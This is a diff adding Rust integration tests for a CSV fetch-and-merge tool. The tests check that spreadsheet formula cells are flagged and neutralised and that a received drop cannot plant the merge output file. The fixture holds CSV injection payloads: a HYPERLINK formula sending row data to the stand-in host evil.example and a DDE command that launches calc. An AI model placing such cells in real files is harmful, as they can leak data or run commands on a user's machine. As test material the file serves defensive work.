@@ -223,3 +223,79 @@ fn no_csv_parts_writes_nothing_and_succeeds() {
     assert!(!Path::new(&islington.work().join("merged.csv")).exists());
     assert_eq!(read_text(&islington.work().join("notes.txt")), "no table here\n");
 }
+
+/// A part with cells a spreadsheet would run: a link that sends the row
+/// away when clicked, a DDE command, and a plain negative number (not a formula).
+const FORMULA_PART: &str = "upn,name,note\n\
+    A1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",-3\n\
+    A2,+cmd|' /C calc'!A0,@SUM(1)\n";
+
+#[test]
+fn formula_cells_are_warned_about_on_fetch_and_neutralised_in_the_merge() {
+    let hub = Hub::start();
+    let camden = Party::new(&hub, "camden");
+    let islington = Party::new(&hub, "islington");
+    camden.send("islington", &[&camden.file("pupils-islington.csv", FORMULA_PART)]);
+
+    let out = islington.run(fetch_merge_args("in", "merged.csv", &[]));
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert!(out.status.success(), "{stderr}");
+    let warning =
+        stderr.lines().find(|l| l.starts_with("warning: ")).unwrap_or_else(|| panic!("no warning:\n{stderr}"));
+    assert!(warning.contains("in/pupils-islington.csv has 3 cell(s)"), "{warning}");
+    assert!(
+        stderr.contains("3 cells that a spreadsheet would run as a formula were written with a leading '"),
+        "{stderr}"
+    );
+    // The received file is byte for byte what camden signed.
+    assert_eq!(read_text(&islington.work().join("in/pupils-islington.csv")), FORMULA_PART);
+    let merged = parse_csv(&read_text(&islington.work().join("merged.csv")));
+    assert_eq!(merged[1], row(&["A1", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "-3", "camden"]));
+    assert_eq!(merged[2], row(&["A2", "'+cmd|' /C calc'!A0", "'@SUM(1)", "camden"]));
+
+    // `--json` reports the warning with the drop; `--keep-formulas` writes them as sent.
+    let hackney = Party::new(&hub, "hackney");
+    hackney.send("islington", &[&hackney.file("more-islington.csv", FORMULA_PART)]);
+    let v = json(&islington.ok(fetch_merge_args("in2", "kept.csv", &["--keep-formulas", "--json"])));
+    let formulas = &v["drops"][0]["drop"]["formulas"];
+    assert_eq!(formulas[0]["cells"], 3, "{v}");
+    assert!(formulas[0]["file"].as_str().is_some_and(|f| f.ends_with("more-islington.csv")), "{v}");
+    assert_eq!(v["merged"]["neutralised"], 0, "{v}");
+    let kept = parse_csv(&read_text(&islington.work().join("kept.csv")));
+    assert_eq!(kept[2], row(&["A2", "+cmd|' /C calc'!A0", "@SUM(1)", "hackney"]));
+}
+
+#[test]
+fn a_drop_cannot_plant_the_merge_output() {
+    let hub = Hub::start();
+    let camden = Party::new(&hub, "camden");
+    let hackney = Party::new(&hub, "hackney");
+    let islington = Party::new(&hub, "islington");
+    // Camden's drop holds a file named like the merge output, so fetching
+    // it into the same folder would create that file before the merge.
+    let planted = camden.send("islington", &[&camden.file("merged.csv", "upn,fsm,source_party\nX1,1,camden\n")]);
+    // Hackney's holds a folder that would hold it.
+    hackney.file("sub/merged.csv", "upn,fsm,source_party\nX2,1,hackney\n");
+    let folder = hackney.send("islington", &[&hackney.work().join("sub")]);
+    let honest = camden.send("islington", &[&camden.file("camden-islington.csv", "upn,fsm\nA1,1\n")]);
+
+    let run = |ids: &[&str], out: &str| {
+        let mut args = vec!["fetch"];
+        args.extend(ids.iter().copied());
+        args.extend(["-o", "in", "--merge-csv", out]);
+        islington.fail_code(args, "merge_output_in_drop")
+    };
+    let (exit, stderr) = run(&[&planted, &honest], "in/merged.csv");
+    assert_eq!(exit, 3, "{stderr}");
+    assert!(stderr.contains(&planted), "{stderr}");
+    assert!(stderr.contains("merged 1 row from 1 part (from camden) into in/merged.csv"), "{stderr}");
+    assert_eq!(read_text(&islington.work().join("in/merged.csv")), "upn,fsm,source_party\nA1,1,camden\n");
+    let (_, stderr) = run(&[&folder], "in/sub/merged.csv");
+    assert!(stderr.contains(&folder), "{stderr}");
+    assert!(!islington.work().join("in/sub").exists(), "the drop's folder was placed");
+    let mut waiting = islington.inbox_ids();
+    waiting.sort();
+    let mut want = vec![planted, folder];
+    want.sort();
+    assert_eq!(waiting, want, "only the refused drops wait; {honest} was acknowledged");
+}
